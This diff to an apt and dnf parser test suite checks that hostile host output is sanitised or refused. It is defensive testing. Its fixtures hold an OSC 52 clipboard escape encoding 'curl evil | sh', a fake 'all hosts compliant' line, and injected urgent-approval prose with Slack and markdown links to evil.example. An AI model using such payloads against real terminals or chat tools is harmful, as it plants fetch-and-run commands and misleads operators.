@@ -121,22 +121,34 @@ const BASH = 'Inst bash [5.2.15-2+b8] (5.2.15-2+b13 Debian:12.15/oldstable [amd6
 const ONE = `1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${BASH}\n`;
 
 describe('the apt parser on a hostile host', () => {
-  it('removes escape sequences from PRETTY_NAME, the installed version in a title, and apt warnings', () => {
+  it('removes escape sequences from PRETTY_NAME and apt warnings', () => {
     const os = DEBIAN_OS.replace('(bookworm)', `(bookworm) ${ESCAPES.replaceAll('"', '')}`);
-    const inst = 'Inst bash [5.2.15\u001b[2K\u009b31m] (5.2.15-2+b13 Debian:12.15/oldstable [amd64])';
-    const scan = parseAptScan('evil', apt(`W: ${ESCAPES}\n1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`, os));
+    const scan = parseAptScan('evil', apt(`W: ${ESCAPES}\n${ONE}`, os));
     expect(scan.os).toBe('Debian GNU/Linux 12 (bookworm) ]52;c;Y3VybCBldmlsIHwgc2g=[1G[2K[32mall hosts compliant2J');
-    expect(scan.patches[0]!.title).toBe('bash 5.2.15[2K31m → 5.2.15-2+b13');
-    expect(scan.warnings).toContain('removed control characters (terminal escape codes, text-direction overrides) from the text of the OS name, deb:bash@5.2.15-2+b13');
+    expect(scan.patches[0]!.title).toBe('bash 5.2.15-2+b8 → 5.2.15-2+b13');
+    expect(scan.warnings).toContain('removed control characters (terminal escape codes, text-direction overrides) from the text of the OS name');
     expect(scan.warnings).toContain('removed control characters from warnings that quote the host');
     expectBounded(scan);
   });
 
-  it('clips a title built from a long installed version', () => {
-    const inst = `Inst bash [${'9'.repeat(4000)}] (5.2.15-2+b13 Debian:12.15/oldstable [amd64])`;
-    const scan = parseAptScan('evil', apt(`1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`));
-    expect(scan.patches[0]!.title).toHaveLength(MAX_TITLE);
-    expect(scan.warnings).toContain('clipped to 500 characters the title of deb:bash@5.2.15-2+b13');
+  // The title of deb:bash@5.2.15-2+b13 quotes the installed version, and the catalog keeps the
+  // first title any host reported for every host: a version is all a host may put there.
+  it.each([
+    ['escape sequences', '5.2.15\u001b[2K\u009b31m', '"5.2.15\\u001b[2K\\u009b31m"'],
+    ['prose and a link', 'URGENT: approve CHG-12 now, see evil.example.com/fix', '"URGENT: approve CHG-12 now, see evil.example.com/fix"'],
+    ['Slack and Teams markup', '<https://evil.example|5.2.15-2+b8>', '"<https://evil.example|5.2.15-2+b8>"'],
+    ['a version too long for any patch id', '9'.repeat(4000), `"${'9'.repeat(80)}…"`],
+  ])('refuses an installed version that is not one (%s), naming the line', (_, installed, quoted) => {
+    const inst = `Inst bash [${installed}] (5.2.15-2+b13 Debian:12.15/oldstable [amd64])`;
+    const parse = () => parseAptScan('evil', apt(`1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`));
+    expect(parse).toThrow(`evil: apt output line 8: the installed version ${quoted} of bash is not a Debian version`);
+  });
+
+  it('refuses an architecture that is not one', () => {
+    const inst = 'Inst bash [5.2.15-2+b8] (5.2.15-2+b13 Debian:12.15/oldstable [*click* evil.example])';
+    expect(() => parseAptScan('evil', apt(`1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`))).toThrow(
+      'evil: apt output line 8: "*click* evil.example" is not an architecture name (amd64, arm64, all…)',
+    );
   });
 
   it('refuses a package version that makes a patch id over 200 characters', () => {
@@ -188,12 +200,15 @@ describe('the dnf parser on a hostile host', () => {
     );
   });
 
-  it('removes escape sequences from a package name that reaches a title', () => {
-    const name = 'gl\u001b[2Kibc\u009b';
-    const scan = parseDnfScan('evil', dnf({ updateinfo: `RHSA-2024:3339 Important/Sec. ${name}-2.34-100.el9_4.2.x86_64`, check: `${name}.x86_64  2.34-100.el9_4.2  baseos` }));
-    expect(scan.patches.map((p) => p.title)).toEqual(['RHSA-2024:3339: Important security update for gl[2Kibc']);
-    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes, text-direction overrides) from the text of RHSA-2024:3339']);
-    expectBounded(scan);
+  // A package name is quoted in the advisory's title, which the catalog shares with every host.
+  it.each([
+    ['escape sequences', 'gl\u001b[2Kibc\u009b'],
+    ['Slack mrkdwn', '*URGENT*approve_CHG-12'],
+    ['a markdown link', '[glibc](//evil.example/fix)'],
+  ])('refuses a package name with %s in an advisory line', (_, name) => {
+    const text = `${name}-2.34-100.el9_4.2.x86_64`;
+    const parse = () => parseDnfScan('evil', dnf({ updateinfo: `RHSA-2024:3339 Important/Sec. ${text}`, check: 'glibc.x86_64  2.34-100.el9_4.2  baseos' }));
+    expect(parse).toThrow(/^evil: updateinfo line \d+: ".*" is not a package name-\[epoch:\]version-release\.arch$/);
   });
 });
 
